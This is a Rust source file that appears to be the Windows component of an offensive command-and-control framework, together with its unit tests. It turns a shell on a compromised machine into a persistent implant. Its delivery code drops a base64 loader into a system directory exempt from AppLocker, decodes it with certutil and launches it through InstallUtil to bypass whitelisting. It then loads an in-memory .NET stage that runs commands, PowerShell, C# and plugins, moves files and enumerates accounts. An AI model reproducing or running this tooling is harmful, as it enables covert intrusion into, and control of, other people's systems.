// Copyright 2025 Google LLC
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

//! The Windows driver. A cmd.exe shell can't be driven like a
//! line-oriented Unix shell, so this driver bootstraps a dedicated C2:
//! a short stage-one loader is dropped into an AppLocker-exempt system
//! directory and invoked via InstallUtil, stage one receives a
//! base64-gzipped .NET assembly (stage two) over the channel and runs
//! it in-process, and from then on the channel carries newline-
//! delimited JSON method invocations.

use std::{
    collections::HashMap,
    io::{self, Write as _},
    path::PathBuf,
    time,
};

use base64::Engine as _;
use pincer_protocol::{methods, ErrorClass, Request, Response};
use serde_json::{json, Value};
use sha2::Digest as _;
use tracing::{debug, info, instrument, warn};

use crate::{
    channel::Channel,
    config::Config,
    consts,
    error::{Error, Result},
    platform::{ExecResult, FileMode, Group, User},
    tty,
};

/// Where stage one lands on the target. Writable without elevation and
/// exempted from the default AppLocker rule set.
const STAGE_ONE_DIR: &str = r"C:\Windows\System32\spool\drivers\color";

const STAGE_ONE_NAME: &str = "p1.exe";

const INSTALL_UTIL: &str =
    r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe";

/// cmd.exe chokes on very long lines; keep the b64 drops well under
/// the documented 8191 character limit.
const CMD_CHUNK: usize = 4096;

pub struct WindowsPlatform {
    stage_two_loaded: bool,
    /// logical plugin name -> plugin id
    plugins: HashMap<String, i64>,
    /// content hash -> plugin id
    plugin_hashes: HashMap<String, i64>,
    /// True while the channel is bound to a ConPTY pass-through and
    /// JSON requests would corrupt the stream.
    interactive: bool,
    cwd: String,
    user: Option<String>,
    machine_guid: Option<String>,
    /// The most recently spawned process, target of the interrupt RPC.
    last_pid: Option<i64>,
    /// Size to apply when the next ConPTY session starts.
    pending_size: tty::Size,
}

impl WindowsPlatform {
    /// Bootstrap the two-stage C2 over a cmd.exe shell.
    #[instrument(skip_all)]
    pub fn embark(chan: &mut Channel, config: &Config) -> Result<Self> {
        let mut platform = WindowsPlatform {
            stage_two_loaded: false,
            plugins: HashMap::new(),
            plugin_hashes: HashMap::new(),
            interactive: false,
            cwd: String::from(r"C:\"),
            user: None,
            machine_guid: None,
            last_pid: None,
            pending_size: tty::Size::local(),
        };
        platform.bootstrap(chan, config)?;
        Ok(platform)
    }

    #[cfg(test)]
    pub(crate) fn for_test() -> Self {
        WindowsPlatform {
            stage_two_loaded: true,
            plugins: HashMap::new(),
            plugin_hashes: HashMap::new(),
            interactive: false,
            cwd: String::from(r"C:\"),
            user: None,
            machine_guid: None,
            last_pid: None,
            pending_size: tty::Size { rows: 24, cols: 80 },
        }
    }

    pub fn stage_two_loaded(&self) -> bool {
        self.stage_two_loaded
    }

    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    pub fn loaded_plugins(&self) -> &HashMap<String, i64> {
        &self.plugins
    }

    //
    // bootstrap
    //

    #[instrument(skip_all)]
    fn bootstrap(&mut self, chan: &mut Channel, config: &Config) -> Result<()> {
        let plugin_dir = config
            .plugin_dir()
            .ok_or_else(|| Error::Platform(String::from("no plugin directory resolvable")))?;
        let stage_one = read_stage(&plugin_dir, consts::STAGE_ONE_FILE)?;
        let stage_two = read_stage(&plugin_dir, consts::STAGE_TWO_FILE)?;

        info!("delivering stage one ({} bytes)", stage_one.len());
        self.deliver_stage_one(chan, &stage_one)?;

        info!("shipping stage two ({} bytes)", stage_two.len());
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(&stage_two)
            .map_err(|e| Error::Platform(format!("gzipping stage two: {e}")))?;
        let packed =
            gz.finish().map_err(|e| Error::Platform(format!("gzipping stage two: {e}")))?;
        let encoded = base64::engine::general_purpose::STANDARD.encode(packed);
        chan.send_all(encoded.as_bytes())?;
        chan.send_all(b"\n")?;

        // stage two announces itself with a literal READY line
        chan.recvuntil(
            format!("{}\n", pincer_protocol::READY_SENTINEL).as_bytes(),
            Some(consts::STAGE_TWO_TIMEOUT),
        )
        .map_err(|e| match e {
            Error::Timeout(d) => {
                warn!("stage two never printed READY");
                Error::Timeout(d)
            }
            other => other,
        })?;

        self.stage_two_loaded = true;
        info!("stage two is up");
        Ok(())
    }

    /// Drop the loader via cmd.exe builtins only: echo the base64 into
    /// a temp file, certutil-decode it into the AppLocker-exempt dir,
    /// then hand it to InstallUtil with the uninstall entry point.
    fn deliver_stage_one(&mut self, chan: &mut Channel, loader: &[u8]) -> Result<()> {
        let b64 = base64::engine::general_purpose::STANDARD.encode(loader);
        let drop_path = format!(r"{STAGE_ONE_DIR}\{STAGE_ONE_NAME}");
        let b64_path = format!(r"%TEMP%\{STAGE_ONE_NAME}.b64");

        let mut script = format!("del /q {b64_path} 2>nul\r\n");
        for chunk in b64.as_bytes().chunks(CMD_CHUNK) {
            script.push_str(&format!(
                "echo {}>> {}\r\n",
                String::from_utf8_lossy(chunk),
                b64_path
            ));
        }
        script.push_str(&format!("certutil -f -decode {b64_path} {drop_path}\r\n"));
        script.push_str(&format!("del /q {b64_path}\r\n"));
        script.push_str(&format!(
            "{INSTALL_UTIL} /logfile= /LogToConsole=false /U {drop_path}\r\n"
        ));

        chan.send_all(script.as_bytes())?;
        Ok(())
    }

    //
    // the JSON request pipe
    //

    /// Send one method invocation and read its reply envelope.
    pub fn call(
        &mut self,
        chan: &mut Channel,
        class: &str,
        method: &str,
        args: Vec<Value>,
    ) -> Result<Response> {
        if self.interactive {
            return Err(Error::Busy("channel is bound to a ConPTY pass-through"));
        }
        if !self.stage_two_loaded {
            return Err(Error::Platform(String::from("stage two is not loaded")));
        }

        let line = Request::new(class, method, args)
            .to_line()
            .map_err(|e| Error::Protocol(format!("{e}")))?;
        chan.send_all(&line)?;
        self.read_response(chan)
    }

    fn read_response(&mut self, chan: &mut Channel) -> Result<Response> {
        let line = chan.recvuntil(b"\n", Some(consts::DEFAULT_EXEC_TIMEOUT))?;
        let text = String::from_utf8_lossy(&line);
        Response::from_line(&text)
            .map_err(|e| Error::Protocol(format!("malformed C2 response: {e}")))
    }

    /// Call and convert a non-zero error code into the taxonomy.
    fn invoke(
        &mut self,
        chan: &mut Channel,
        method: &str,
        args: Vec<Value>,
    ) -> Result<Response> {
        let resp = self.call(chan, methods::CORE_CLASS, method, args)?;
        match ErrorClass::from(resp.error) {
            ErrorClass::Ok => Ok(resp),
            ErrorClass::NotFound => Err(Error::NotFound(
                resp.message.unwrap_or_else(|| format!("{method}: error {}", resp.error)),
            )),
            ErrorClass::AccessDenied => Err(Error::Permission(
                resp.message.unwrap_or_else(|| format!("{method}: error {}", resp.error)),
            )),
            ErrorClass::Other => Err(Error::Protocol(format!(
                "{method} failed with error {}: {}",
                resp.error,
                resp.message.unwrap_or_default()
            ))),
        }
    }

    //
    // primitives
    //

    /// Run a command line to completion via CreateProcessW inside
    /// stage two.
    pub fn run(
        &mut self,
        chan: &mut Channel,
        argv: &[String],
        _timeout: Option<time::Duration>,
    ) -> Result<ExecResult> {
        if argv.is_empty() {
            return Err(Error::Argument(String::from("empty argv")));
        }
        let cmdline = argv.join(" ");
        let resp = self.invoke(chan, methods::PROCESS, vec![json!(cmdline), json!(1)])?;

        let output = resp
            .result
            .get("output")
            .and_then(Value::as_str)
            .map(|b64| {
                base64::engine::general_purpose::STANDARD
                    .decode(b64)
                    .map_err(|e| Error::Protocol(format!("bad output encoding: {e}")))
            })
            .transpose()?
            .unwrap_or_default();
        let status =
            resp.result.get("status").and_then(Value::as_i64).unwrap_or(0) as i32;
        Ok(ExecResult { stdout: output, status })
    }

    /// Start a process without waiting; returns the handle quadruple.
    pub fn popen(&mut self, chan: &mut Channel, argv: &[String]) -> Result<WindowsProcess> {
        if argv.is_empty() {
            return Err(Error::Argument(String::from("empty argv")));
        }
        let cmdline = argv.join(" ");
        let resp = self.invoke(chan, methods::PROCESS, vec![json!(cmdline), json!(0)])?;

        let field = |name: &str| -> Result<i64> {
            resp.result
                .get(name)
                .and_then(Value::as_i64)
                .ok_or_else(|| Error::Protocol(format!("process reply missing {name}")))
        };
        let proc = WindowsProcess {
            pid: field("pid")?,
            stdin: field("stdin")?,
            stdout: field("stdout")?,
            stderr: field("stderr")?,
            status: None,
        };
        self.last_pid = Some(proc.pid);
        Ok(proc)
    }

    /// Poll a spawned process for exit.
    pub fn ppoll(&mut self, chan: &mut Channel, proc: &mut WindowsProcess) -> Result<Option<i32>> {
        if proc.status.is_some() {
            return Ok(proc.status);
        }
        let resp = self.invoke(chan, methods::PPOLL, vec![json!(proc.pid)])?;
        proc.status = resp.result.as_i64().map(|s| s as i32);
        Ok(proc.status)
    }

    pub fn kill(&mut self, chan: &mut Channel, pid: i64) -> Result<()> {
        self.invoke(chan, methods::KILL, vec![json!(pid)])?;
        Ok(())
    }

    /// Open a remote file through CreateFile. Mode maps onto
    /// GENERIC_READ/OPEN_EXISTING vs GENERIC_WRITE/TRUNCATE_EXISTING
    /// inside the agent.
    pub fn open(&mut self, chan: &mut Channel, path: &str, mode: FileMode) -> Result<i64> {
        let mode_str = match mode {
            FileMode::Read => "r",
            FileMode::Write => "w",
            FileMode::ReadWrite => "rw",
        };
        let resp = self.invoke(chan, methods::OPEN, vec![json!(path), json!(mode_str)])?;
        resp.result
            .as_i64()
            .ok_or_else(|| Error::Protocol(String::from("open reply is not a handle")))
    }

    /// Read up to `count` bytes from an open handle. The data travels
    /// as a raw length-prefixed window between the two JSON envelopes.
    pub fn read(&mut self, chan: &mut Channel, fd: i64, count: usize) -> Result<Vec<u8>> {
        let announce = self.invoke(chan, methods::READ, vec![json!(fd), json!(count)])?;
        let announced = announce
            .result
            .as_u64()
            .ok_or_else(|| Error::Protocol(String::from("read reply is not a length")))?
            as usize;
        if announced > consts::BINARY_WINDOW_LIMIT {
            return Err(Error::Protocol(format!("oversized binary window: {announced}")));
        }

        // the window carries its own 4-byte little endian length
        // prefix; the envelope value is only a cross-check
        let data = pincer_protocol::BinaryWindow::read_from(
            &mut ChannelReader { chan },
            consts::BINARY_WINDOW_LIMIT,
        )
        .map_err(|e| Error::Protocol(format!("reading binary window: {e}")))?;
        if data.len() != announced {
            return Err(Error::Protocol(format!(
                "binary window of {} bytes does not match announced length {}",
                data.len(),
                announced
            )));
        }

        // the closing envelope confirms the window was fully flushed
        let done = self.read_response(chan)?;
        if ErrorClass::from(done.error) != ErrorClass::Ok {
            return Err(Error::Protocol(format!(
                "read window close failed: {}",
                done.message.unwrap_or_default()
            )));
        }
        Ok(data)
    }

    /// Write bytes through an open handle, framed the same way as
    /// `read` but in the other direction.
    pub fn write(&mut self, chan: &mut Channel, fd: i64, data: &[u8]) -> Result<usize> {
        let ready = self.invoke(chan, methods::WRITE, vec![json!(fd), json!(data.len())])?;
        drop(ready);

        let mut window = Vec::with_capacity(4 + data.len());
        pincer_protocol::BinaryWindow::write_to(&mut window, data)
            .map_err(|e| Error::Transport(e))?;
        chan.send_all(&window)?;

        let done = self.read_response(chan)?;
        match ErrorClass::from(done.error) {
            ErrorClass::Ok => Ok(done.result.as_u64().unwrap_or(data.len() as u64) as usize),
            _ => Err(Error::Protocol(format!(
                "write window close failed: {}",
                done.message.unwrap_or_default()
            ))),
        }
    }

    pub fn close(&mut self, chan: &mut Channel, fd: i64) -> Result<()> {
        self.invoke(chan, methods::CLOSE, vec![json!(fd)])?;
        Ok(())
    }

    /// Run a powershell snippet in the stage-two runspace.
    pub fn powershell(&mut self, chan: &mut Channel, script: &str) -> Result<Value> {
        let resp = self.invoke(chan, methods::POWERSHELL, vec![json!(script)])?;
        Ok(resp.result)
    }

    /// Compile and run a C# snippet in-process.
    pub fn csharp(&mut self, chan: &mut Channel, code: &str) -> Result<Value> {
        let resp = self.invoke(chan, methods::CSHARP, vec![json!(code)])?;
        Ok(resp.result)
    }

    //
    // plugins
    //

    /// Load a .NET plugin assembly, deduplicated by content hash and
    /// logical name: loading the same bytes twice returns the same id
    /// without a second load on the remote side.
    pub fn dotnet_load(&mut self, chan: &mut Channel, path: &std::path::Path) -> Result<i64> {
        let bytes = std::fs::read(path)
            .map_err(|e| Error::NotFound(format!("plugin {}: {e}", path.display())))?;
        let digest = hex::encode(sha2::Sha256::digest(&bytes));
        let name = path
            .file_stem()
            .map(|s| s.to_string_lossy().into_owned())
            .unwrap_or_else(|| String::from("plugin"));

        if let Some(id) = self.plugin_hashes.get(&digest) {
            debug!("plugin {} already loaded by hash as {}", name, id);
            return Ok(*id);
        }
        if let Some(id) = self.plugins.get(&name) {
            debug!("plugin {} already loaded by name as {}", name, id);
            return Ok(*id);
        }

        let ready =
            self.invoke(chan, methods::DOTNET_LOAD, vec![json!(name), json!(bytes.len())])?;
        drop(ready);

        let mut window = Vec::with_capacity(4 + bytes.len());
        pincer_protocol::BinaryWindow::write_to(&mut window, &bytes)
            .map_err(Error::Transport)?;
        chan.send_all(&window)?;

        let done = self.read_response(chan)?;
        let id = done
            .result
            .as_i64()
            .ok_or_else(|| Error::Protocol(String::from("dotnet_load reply is not an id")))?;

        self.plugins.insert(name, id);
        self.plugin_hashes.insert(digest, id);
        info!("loaded plugin id {}", id);
        Ok(id)
    }

    /// Invoke a static method on a loaded plugin. Same JSON ABI as the
    /// core class, routed through the Plugin dispatcher.
    pub fn plugin_call(
        &mut self,
        chan: &mut Channel,
        plugin_id: i64,
        method: &str,
        mut args: Vec<Value>,
    ) -> Result<Response> {
        let mut full_args = vec![json!(plugin_id)];
        full_args.append(&mut args);
        self.call(chan, methods::PLUGIN_CLASS, method, full_args)
    }

    //
    // interactive
    //

    /// Bind the channel to a fresh ConPTY inside stage two. Until
    /// `leave_interactive`, the stream carries terminal bytes and any
    /// JSON call fails Busy.
    pub fn enter_interactive(&mut self, chan: &mut Channel) -> Result<()> {
        let size = self.pending_size.clone();
        self.invoke(
            chan,
            methods::INTERACTIVE,
            vec![json!(size.rows), json!(size.cols)],
        )?;
        self.interactive = true;
        Ok(())
    }

    /// Return to request/response mode. The stage-two side prints the
    /// completion marker when its ConPTY session ends; the caller is
    /// expected to have consumed up to (and including) that marker.
    pub fn leave_interactive(&mut self, chan: &mut Channel) -> Result<()> {
        if !self.interactive {
            return Ok(());
        }
        // swallow the line remainder after the marker so the next
        // envelope parse starts clean
        let _ = chan.drain()?;
        self.interactive = false;
        Ok(())
    }

    pub fn is_interactive(&self) -> bool {
        self.interactive
    }

    //
    // enumeration
    //

    pub fn current_user(&mut self, chan: &mut Channel) -> Result<(u32, String)> {
        if let Some(user) = self.user.clone() {
            return Ok((0, user));
        }
        let argv = vec![String::from("whoami")];
        let result = self.run(chan, &argv, None)?;
        let user = result.stdout_str().trim().to_string();
        self.user = Some(user.clone());
        Ok((0, user))
    }

    pub fn users(&mut self, chan: &mut Channel) -> Result<Vec<User>> {
        let value = self.powershell(
            chan,
            "Get-LocalUser | Select-Object Name,SID | ConvertTo-Json -Compress",
        )?;
        Ok(parse_local_principals(&value)
            .into_iter()
            .map(|name| User {
                name,
                id: 0,
                gid: 0,
                home: String::new(),
                shell: String::new(),
            })
            .collect())
    }

    pub fn groups(&mut self, chan: &mut Channel) -> Result<Vec<Group>> {
        let value = self.powershell(
            chan,
            "Get-LocalGroup | Select-Object Name,SID | ConvertTo-Json -Compress",
        )?;
        Ok(parse_local_principals(&value)
            .into_iter()
            .map(|name| Group { name, id: 0, members: vec![] })
            .collect())
    }

    /// Host identity: the machine GUID, dashes stripped, which is
    /// already a stable 32 hex characters.
    pub fn host_id(&mut self, chan: &mut Channel) -> Result<String> {
        if let Some(guid) = &self.machine_guid {
            return Ok(guid.clone());
        }
        let resp = self.invoke(chan, methods::MACHINE_GUID, vec![])?;
        let guid = resp
            .result
            .as_str()
            .ok_or_else(|| Error::Protocol(String::from("machine_guid reply is not a string")))?
            .to_lowercase()
            .replace('-', "");
        if guid.len() != 32 {
            return Err(Error::Protocol(format!("implausible machine guid '{guid}'")));
        }
        self.machine_guid = Some(guid.clone());
        Ok(guid)
    }

    /// Interrupt whatever ran last: a kill RPC, since there is no
    /// in-band Ctrl-C on the JSON pipe.
    pub fn interrupt(&mut self, chan: &mut Channel) -> Result<()> {
        match self.last_pid {
            Some(pid) => self.kill(chan, pid),
            None => Ok(()),
        }
    }

    pub fn set_tty_size(&mut self, _chan: &mut Channel, size: &tty::Size) -> Result<()> {
        // applied when the next ConPTY session starts; there is no
        // resize call while the JSON pipe owns the stream
        self.pending_size = size.clone();
        Ok(())
    }
}

/// The handle quadruple for a process spawned without waiting.
#[derive(Debug)]
pub struct WindowsProcess {
    pub pid: i64,
    pub stdin: i64,
    pub stdout: i64,
    pub stderr: i64,
    status: Option<i32>,
}

impl WindowsProcess {
    pub fn status(&self) -> Option<i32> {
        self.status
    }
}

/// `io::Read` over the channel, so the shared window framing in
/// pincer-protocol can parse the length prefix straight off the wire.
struct ChannelReader<'a> {
    chan: &'a mut Channel,
}

impl io::Read for ChannelReader<'_> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        match self.chan.recv(buf.len()) {
            Ok(chunk) => {
                buf[..chunk.len()].copy_from_slice(&chunk);
                Ok(chunk.len())
            }
            Err(Error::Eof) => Ok(0),
            Err(e) => Err(io::Error::new(io::ErrorKind::Other, e.to_string())),
        }
    }
}

fn read_stage(dir: &PathBuf, name: &str) -> Result<Vec<u8>> {
    let path = dir.join(name);
    std::fs::read(&path).map_err(|_| {
        Error::NotFound(format!(
            "stage binary {} not present; run --download-plugins first",
            path.display()
        ))
    })
}

/// Pull the Name fields out of a ConvertTo-Json reply, which is an
/// object for a single result and an array otherwise.
fn parse_local_principals(value: &Value) -> Vec<String> {
    let names = |v: &Value| v.get("Name").and_then(Value::as_str).map(String::from);
    match value {
        Value::Array(items) => items.iter().filter_map(names).collect(),
        Value::Object(_) => names(value).into_iter().collect(),
        Value::String(text) => {
            // some agents double-encode; tolerate a JSON string payload
            serde_json::from_str::<Value>(text)
                .map(|v| parse_local_principals(&v))
                .unwrap_or_default()
        }
        _ => vec![],
    }
}

#[cfg(test)]
mod test {
    use super::*;
    use crate::channel::{Channel, Transport};
    use std::collections::VecDeque;

    /// A transport that acts like the stage-two agent: it parses JSON
    /// request lines and answers with canned envelope behavior, plus
    /// in-memory files for the binary window paths.
    struct FakeAgent {
        out: VecDeque<u8>,
        inbuf: Vec<u8>,
        files: HashMap<i64, Vec<u8>>,
        next_fd: i64,
        next_plugin: i64,
        loads: usize,
        pending_window: Option<PendingWindow>,
        nonblocking: bool,
    }

    enum PendingWindow {
        FileWrite { fd: i64 },
        PluginLoad,
    }

    impl FakeAgent {
        fn channel() -> Channel {
            Channel::new(
                "fake-agent",
                0,
                Box::new(FakeAgent {
                    out: VecDeque::new(),
                    inbuf: vec![],
                    files: HashMap::new(),
                    next_fd: 100,
                    next_plugin: 1,
                    loads: 0,
                    pending_window: None,
                    nonblocking: false,
                }),
            )
        }

        fn emit_response(&mut self, resp: Response) {
            let line = resp.to_line().unwrap();
            self.out.extend(line.iter());
        }

        fn emit_ok(&mut self, result: Value) {
            self.emit_response(Response { error: 0, result, message: None });
        }

        fn handle_request(&mut self, req: Request) {
            match (req.class.as_str(), req.method.as_str()) {
                ("Pincer", "process") => {
                    let cmdline = req.args[0].as_str().unwrap_or("");
                    let wait = req.args[1].as_i64().unwrap_or(1);
                    if wait == 1 {
                        let output = match cmdline {
                            "whoami" => "desktop-abc123\\caleb",
                            other => other,
                        };
                        let b64 = base64::engine::general_purpose::STANDARD.encode(output);
                        self.emit_ok(json!({"output": b64, "status": 0}));
                    } else {
                        self.emit_ok(json!({
                            "pid": 4242, "stdin": 1, "stdout": 2, "stderr": 3
                        }));
                    }
                }
                ("Pincer", "ppoll") => self.emit_ok(json!(0)),
                ("Pincer", "kill") => self.emit_ok(Value::Null),
                ("Pincer", "machine_guid") => {
                    self.emit_ok(json!("AB8B7DF2-A1F8-3FA6-694B-0315AAF1DEEC"))
                }
                ("Pincer", "open") => {
                    let path = req.args[0].as_str().unwrap_or("");
                    let mode = req.args[1].as_str().unwrap_or("r");
                    if mode == "r" && path.contains("missing") {
                        self.emit_response(Response {
                            error: 2,
                            result: Value::Null,
                            message: Some(String::from("file not found")),
                        });
                        return;
                    }
                    let fd = self.next_fd;
                    self.next_fd += 1;
                    self.files.entry(fd).or_default();
                    self.emit_ok(json!(fd));
                }
                ("Pincer", "read") => {
                    let fd = req.args[0].as_i64().unwrap();
                    let count = req.args[1].as_u64().unwrap() as usize;
                    let data: Vec<u8> = {
                        let content = self.files.get_mut(&fd).unwrap();
                        let take = count.min(content.len());
                        content.drain(..take).collect()
                    };
                    self.emit_ok(json!(data.len()));
                    // same length-prefixed window framing as the write
                    // direction in pump()
                    let mut window = Vec::with_capacity(4 + data.len());
                    pincer_protocol::BinaryWindow::write_to(&mut window, &data)
                        .expect("window encoding");
                    self.out.extend(window.iter());
                    self.emit_ok(Value::Null);
                }
                ("Pincer", "write") => {
                    let fd = req.args[0].as_i64().unwrap();
                    self.pending_window = Some(PendingWindow::FileWrite { fd });
                    self.emit_ok(Value::Null);
                }
                ("Pincer", "close") => self.emit_ok(Value::Null),
                ("Pincer", "dotnet_load") => {
                    self.pending_window = Some(PendingWindow::PluginLoad);
                    self.emit_ok(Value::Null);
                }
                ("Pincer", "interactive") => self.emit_ok(Value::Null),
                ("Plugin", method) => {
                    let plugin_id = req.args[0].as_i64().unwrap_or(-1);
                    self.emit_ok(json!(format!("{method}:{plugin_id}")));
                }
                (class, method) => self.emit_response(Response {
                    error: 87,
                    result: Value::Null,
                    message: Some(format!("unknown method {class}.{method}")),
                }),
            }
        }

        fn pump(&mut self) {
            loop {
                match self.pending_window.take() {
                    Some(pending) => {
                        if self.inbuf.len() < 4 {
                            self.pending_window = Some(pending);
                            return;
                        }
                        let len = u32::from_le_bytes([
                            self.inbuf[0],
                            self.inbuf[1],
                            self.inbuf[2],
                            self.inbuf[3],
                        ]) as usize;
                        if self.inbuf.len() < 4 + len {
                            self.pending_window = Some(pending);
                            return;
                        }
                        self.inbuf.drain(..4);
                        let data: Vec<u8> = self.inbuf.drain(..len).collect();
                        match pending {
                            PendingWindow::FileWrite { fd } => {
                                let written = data.len();
                                self.files.entry(fd).or_default().extend_from_slice(&data);
                                self.emit_ok(json!(written));
                            }
                            PendingWindow::PluginLoad => {
                                self.loads += 1;
                                let id = self.next_plugin;
                                self.next_plugin += 1;
                                self.emit_ok(json!(id));
                            }
                        }
                    }
                    None => {
                        if let Some(pos) = self.inbuf.iter().position(|b| *b == b'\n') {
                            let line: Vec<u8> = self.inbuf.drain(..=pos).collect();
                            let text = String::from_utf8_lossy(&line).into_owned();
                            match Request::from_line(&text) {
                                Ok(req) => self.handle_request(req),
                                Err(_) => {} // stage-one noise
                            }
                        } else {
                            return;
                        }
                    }
                }
            }
        }
    }

    impl Transport for FakeAgent {
        fn send(&mut self, buf: &[u8]) -> crate::error::Result<usize> {
            self.inbuf.extend_from_slice(buf);
            self.pump();
            Ok(buf.len())
        }

        fn recv(&mut self, buf: &mut [u8]) -> crate::error::Result<usize> {
            if self.out.is_empty() {
                return if self.nonblocking {
                    Err(Error::Blocked)
                } else {
                    Err(Error::Eof)
                };
            }
            let take = buf.len().min(self.out.len());
            for slot in buf.iter_mut().take(take) {
                *slot = self.out.pop_front().unwrap();
            }
            Ok(take)
        }

        fn set_read_timeout(&mut self, _dur: Option<time::Duration>) -> crate::error::Result<()> {
            Ok(())
        }

        fn set_nonblocking(&mut self, nonblocking: bool) -> crate::error::Result<()> {
            self.nonblocking = nonblocking;
            Ok(())
        }

        fn shutdown(&mut self) -> crate::error::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn run_decodes_process_output() -> Result<()> {
        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();

        let argv = vec![String::from("whoami")];
        let result = platform.run(&mut chan, &argv, None)?;
        assert_eq!(result.stdout_str(), "desktop-abc123\\caleb");
        assert_eq!(result.status, 0);
        Ok(())
    }

    #[test]
    fn popen_returns_handle_quadruple() -> Result<()> {
        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();

        let argv = vec![String::from("cmd.exe")];
        let proc = platform.popen(&mut chan, &argv)?;
        assert_eq!(proc.pid, 4242);
        assert_eq!((proc.stdin, proc.stdout, proc.stderr), (1, 2, 3));
        Ok(())
    }

    #[test]
    fn file_write_read_round_trip() -> Result<()> {
        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();

        let payload: Vec<u8> = (0..=255u8).collect();
        let fd = platform.open(&mut chan, r"C:\temp\blob", FileMode::Write)?;
        let written = platform.write(&mut chan, fd, &payload)?;
        assert_eq!(written, payload.len());

        let got = platform.read(&mut chan, fd, payload.len())?;
        assert_eq!(got, payload);
        platform.close(&mut chan, fd)?;
        Ok(())
    }

    #[test]
    fn read_consumes_window_length_prefix() -> Result<()> {
        // pin the wire layout directly: announce envelope, then a
        // 4-byte LE length prefix and the raw bytes, then the closing
        // envelope
        use crate::channel::test_support::ScriptedTransport;

        let payload = b"hello";
        let mut wire = Vec::new();
        wire.extend(
            Response { error: 0, result: json!(payload.len()), message: None }
                .to_line()
                .unwrap(),
        );
        pincer_protocol::BinaryWindow::write_to(&mut wire, payload).unwrap();
        wire.extend(Response { error: 0, result: Value::Null, message: None }.to_line().unwrap());

        let mut chan = ScriptedTransport::channel(vec![wire]);
        let mut platform = WindowsPlatform::for_test();
        let got = platform.read(&mut chan, 100, payload.len())?;
        assert_eq!(got, payload.to_vec());

        // nothing left over: the prefix was consumed, not returned
        chan.set_nonblocking(true).unwrap();
        assert!(matches!(chan.recv(16), Err(Error::Blocked) | Err(Error::Eof)));
        Ok(())
    }

    #[test]
    fn empty_file_round_trip() -> Result<()> {
        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();

        let fd = platform.open(&mut chan, r"C:\temp\empty", FileMode::Write)?;
        assert_eq!(platform.write(&mut chan, fd, &[])?, 0);
        assert_eq!(platform.read(&mut chan, fd, 64)?, Vec::<u8>::new());
        Ok(())
    }

    #[test]
    fn open_missing_maps_to_not_found() {
        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();
        let res = platform.open(&mut chan, r"C:\missing.txt", FileMode::Read);
        assert!(matches!(res, Err(Error::NotFound(_))), "got {res:?}");
    }

    #[test]
    fn plugin_load_is_idempotent() -> Result<()> {
        let dir = tempfile::tempdir().unwrap();
        let plugin_path = dir.path().join("tools.dll");
        std::fs::write(&plugin_path, b"fake assembly bytes").unwrap();

        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();

        let first = platform.dotnet_load(&mut chan, &plugin_path)?;
        let second = platform.dotnet_load(&mut chan, &plugin_path)?;
        assert_eq!(first, second);
        assert_eq!(platform.loaded_plugins().len(), 1);

        // same name, different content: name dedup still returns the
        // loaded id
        std::fs::write(&plugin_path, b"different bytes").unwrap();
        let third = platform.dotnet_load(&mut chan, &plugin_path)?;
        assert_eq!(first, third);
        Ok(())
    }

    #[test]
    fn plugin_call_routes_through_plugin_class() -> Result<()> {
        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();

        let resp = platform.plugin_call(&mut chan, 7, "scan", vec![json!("args")])?;
        assert_eq!(resp.result, json!("scan:7"));
        Ok(())
    }

    #[test]
    fn host_id_strips_guid_dashes() -> Result<()> {
        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();

        let id = platform.host_id(&mut chan)?;
        assert_eq!(id, "ab8b7df2a1f83fa6694b0315aaf1deec");
        assert!(crate::connstr::is_host_id(&id));
        Ok(())
    }

    #[test]
    fn interactive_excludes_json_calls() -> Result<()> {
        let mut chan = FakeAgent::channel();
        let mut platform = WindowsPlatform::for_test();

        platform.enter_interactive(&mut chan)?;
        let argv = vec![String::from("whoami")];
        let res = platform.run(&mut chan, &argv, None);
        assert!(matches!(res, Err(Error::Busy(_))), "got {res:?}");

        platform.leave_interactive(&mut chan)?;
        assert!(platform.run(&mut chan, &argv, None).is_ok());
        Ok(())
    }

    #[test]
    fn ready_sentinel_wait() -> Result<()> {
        use crate::channel::test_support::ScriptedTransport;
        let mut chan = ScriptedTransport::channel(vec![
            b"Microsoft (R) .NET Framework Installation utility\r\n".to_vec(),
            b"READY\n".to_vec(),
        ]);
        let got = chan.recvuntil(b"READY\n", Some(time::Duration::from_secs(1)))?;
        assert!(got.ends_with(b"READY\n"));
        Ok(())
    }

    #[test]
    fn parse_principals_shapes() {
        let cases = vec![
            (json!([{ "Name": "Administrator" }, { "Name": "caleb" }]), 2),
            (json!({ "Name": "caleb" }), 1),
            (json!("[{\"Name\": \"caleb\"}]"), 1),
            (json!(null), 0),
        ];
        for (value, want) in cases {
            assert_eq!(parse_local_principals(&value).len(), want, "value={value}");
        }
    }
}
